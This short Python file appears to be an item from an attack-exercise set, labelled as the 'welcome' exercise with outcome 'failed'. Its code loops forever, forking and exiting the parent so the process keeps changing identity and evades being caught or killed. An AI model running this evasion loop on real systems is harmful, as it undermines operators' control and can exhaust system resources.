# attack: is a new process all the time, so that none can be caught | 不停换进程，让人抓不住
# exercise: welcome
# outcome: failed
import os

while True:
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        pass
